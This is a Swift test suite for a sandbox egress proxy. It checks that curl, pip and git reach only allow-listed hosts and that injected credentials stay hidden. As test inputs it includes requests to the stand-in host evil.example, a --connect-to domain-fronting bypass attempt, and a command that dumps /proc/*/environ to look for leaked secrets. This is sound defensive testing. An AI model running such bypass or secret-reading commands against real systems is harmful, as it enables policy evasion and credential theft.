import EndToEndSupport
import Foundation
import SessionCore
import Testing

/// Real tools in real sandboxes, against servers on loopback that stand for hosts.
@Suite(.serialized, .timeLimit(.minutes(4))) struct EgressToolTests {
    private static let registries = """
        egress:
          mode: list
          allow:
            - pypi.org
            - files.pythonhosted.org
            - github.com
            - GET,HEAD deb.debian.org:80

        """
    private static let hosts = ["pypi.org", "files.pythonhosted.org", "github.com", "deb.debian.org", "evil.example"]

    @Test func curlReachesWhatThePolicyListsAndNothingElse() async throws {
        try await EgressSite.with(policies: ["team": Self.registries], hosts: Self.hosts) { site in
            try "a package list".write(
                to: site.directory.appending(path: "www/Packages"), atomically: true, encoding: .utf8)
            let id = try await site.session(policy: "team")
            let plain = try await site.execute("curl -sS http://deb.debian.org/Packages", in: id)
            #expect(plain.output == "a package list", "\(plain)")
            let secure = try await site.execute("curl -sS --cacert cert.pem https://github.com/Packages", in: id)
            #expect(secure.output == "a package list", "\(secure)")

            let posted = try await site.execute("curl -sS -d x http://deb.debian.org/Packages", in: id)
            #expect(posted.output.contains("does not let this session send POST"), "\(posted)")
            let denied = try await site.execute("curl -sS -v --cacert cert.pem https://evil.example/", in: id)
            #expect(denied.status != 0)
            #expect(denied.output.contains("x-rookery-refused: policy"), "\(denied)")
            #expect(denied.output.contains("policy 'team' does not let this session connect to evil.example:443"))
            let fronted = try await site.execute(
                "curl -sS --cacert cert.pem --connect-to evil.example:443:github.com:443 https://evil.example/", in: id)
            #expect(fronted.status != 0, "\(fronted)")
            let unresolved = try await site.execute("curl -sS --noproxy '*' --max-time 5 https://github.com/", in: id)
            #expect(unresolved.status != 0)
            #expect(!site.requests.contains("evil.example"), "\(site.requests)")

            let api = site.rookery.api
            let egress = try await api.get("/v1/sessions/\(id)/egress").json
            #expect(egress["mode"]?.string == "list")
            let reasons = Set((egress["refusals"]?.array ?? []).compactMap { $0["reason"]?.string })
            #expect(reasons.isSuperset(of: ["policy", "method", "server_name"]), "\(egress)")
            try await eventually("the bytes in the account") {
                let days = try await api.get("/v1/sessions/\(id)/egress").json["days"]?.array ?? []
                return (days.first?["received_bytes"]?.integer ?? 0) > 28 ? true : nil
            }
            let metrics = try await api.get("/metrics").text
            #expect(metrics.contains("rookery_egress_refused_total{reason=\"policy\"}"))
        }
    }

    @Test func pipInstallsAPackage() async throws {
        try await EgressSite.with(policies: ["team": Self.registries], hosts: Self.hosts) { site in
            let wheel = "rookery_demo-1.0-py3-none-any.whl"
            let made = try await run(
                [
                    "/usr/bin/python3", "-c",
                    """
                    import os, sys, zipfile
                    www = sys.argv[1]
                    os.makedirs(www + "/simple/rookery-demo")
                    with zipfile.ZipFile(www + "/\(wheel)", "w") as wheel:
                        wheel.writestr("rookery_demo.py", "answer = 42\\n")
                        info = "rookery_demo-1.0.dist-info/"
                        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: rookery-demo\\nVersion: 1.0\\n")
                        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
                        wheel.writestr(info + "RECORD", "")
                    with open(www + "/simple/rookery-demo/index.html", "w") as page:
                        page.write('<a href="https://files.pythonhosted.org/\(wheel)">\(wheel)</a>')
                    """, site.directory.path + "/www",
                ], logs: site.directory)
            try #require(made.status == 0, "\(made)")
            let id = try await site.session(policy: "team")
            try site.copy(try Self.pip(), to: "pip", of: id)
            let pip =
                "PYTHONPATH=$PWD PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --cert cert.pem "
                + "--retries 0 --no-cache-dir --target /tmp/site"
            let installed = try await site.execute(
                "\(pip) rookery-demo && PYTHONPATH=/tmp/site python3 -c 'import rookery_demo; print(rookery_demo.answer)'",
                in: id)
            #expect(installed.output.hasSuffix("42\n"), "\(installed)\n\(site.requests)")
            // It says why when it tries again.
            let denied = try await site.execute(
                "\(pip) --retries 1 --index-url https://evil.example/simple/ rookery-demo", in: id)
            #expect(denied.status != 0)
            #expect(denied.output.contains("403 rookery: the policy 'team' does not let"), "\(denied)")
        }
    }

    /// pip as the set-up's virtual environment has it.
    private static func pip() throws -> URL {
        let library = Programs.packageRoot.appending(path: ".deps/venv/lib")
        let versions = try FileManager.default.contentsOfDirectory(atPath: library.path)
        let version = try #require(versions.first { $0.hasPrefix("python3") })
        return library.appending(path: "\(version)/site-packages/pip")
    }

    @Test func gitClonesARepository() async throws {
        try await EgressSite.with(policies: ["team": Self.registries], hosts: Self.hosts) { site in
            let made = try await run(
                [
                    "/bin/sh", "-ec",
                    """
                    cd "$1"
                    git init -q -b main work
                    cd work
                    echo hello >file
                    git add file
                    git -c user.name=a -c user.email=a@b commit -qm first
                    git clone -q --bare . ../www/demo.git
                    git -C ../www/demo.git update-server-info
                    """, "sh", site.directory.path,
                ], logs: site.directory)
            try #require(made.status == 0, "\(made)")
            let id = try await site.session(policy: "team")
            let cloned = try await site.execute(
                "git -c http.sslCAInfo=$PWD/cert.pem clone -q https://github.com/demo.git /tmp/demo && cat /tmp/demo/file",
                in: id)
            #expect(cloned.output == "hello\n", "\(cloned)\n\(site.requests)")
            let denied = try await site.execute("git clone https://evil.example/demo.git /tmp/evil", in: id)
            #expect(denied.status != 0)
            #expect(denied.output.contains("403"), "\(denied)")
        }
    }

    @Test func aSecretIsAddedOnTheWayOutToItsHostAlone() async throws {
        let policy = Self.registries + "  secrets: [{host: github.com, header: authorization, secret: git}]\n"
        let value = "Bearer real-\(UUID().uuidString)"
        try await EgressSite.with(
            policies: ["team": policy], hosts: Self.hosts, secrets: ["git": value + "\n"]
        ) { site in
            try "private".write(
                to: site.directory.appending(path: "www/file"), atomically: true, encoding: .utf8)
            let id = try await site.session(policy: "team")
            let fetched = try await site.execute(
                "curl -sS -H 'authorization: own' http://127.0.0.1:3128/egress/github.com/file", in: id)
            #expect(fetched.output == "private", "\(fetched)")
            #expect(site.requests.contains("GET github.com /file") && site.requests.contains(value), "\(site.requests)")
            #expect(!site.requests.contains("'own'"))
            let git = try await site.execute("git ls-remote https://github.com/none.git", in: id)
            #expect(git.status != 0)
            #expect(site.requests.contains("GET github.com /none.git/info/refs"), "\(git)\n\(site.requests)")

            for other in [
                "http://127.0.0.1:3128/egress/pypi.org/file", "http://127.0.0.1:3128/egress/evil.example/file",
            ] {
                let refused = try await site.execute("curl -sS \(other)", in: id)
                #expect(refused.output.contains("rookery: the policy 'team'"), "\(refused)")
            }
            let seen = try await site.execute("env; cat /proc/*/environ 2>/dev/null", in: id)
            #expect(!seen.output.contains(value))
            #expect(site.rookery.supervisor?.errorText.contains(value) == false)
        }
    }

    @Test func underTheDefaultPolicyNothingIsLetOutAndTheAnswerSaysSo() async throws {
        try await EgressSite.with(policies: ["default": ""], hosts: Self.hosts) { site in
            let id = try await site.session(policy: "default")
            let denied = try await site.execute("curl -sS -v https://pypi.org/; env | sort", in: id)
            #expect(denied.output.contains("policy 'default' does not let this session connect to pypi.org:443"))
            #expect(denied.output.contains("add 'pypi.org:443' to egress.allow"), "\(denied)")
            #expect(denied.output.contains("HTTPS_PROXY=http://127.0.0.1:3128"))
            #expect(denied.output.contains("no_proxy=127.0.0.1,localhost,::1"))
            let events = try await run(
                [
                    Programs.built("rookery"), "egress", id, "--server", site.rookery.address, "--token-file",
                    site.rookery.stateDirectory + "/admin-token",
                ], logs: site.directory)
            #expect(events.output.contains("pypi.org:443"), "\(events)")
        }
    }
}
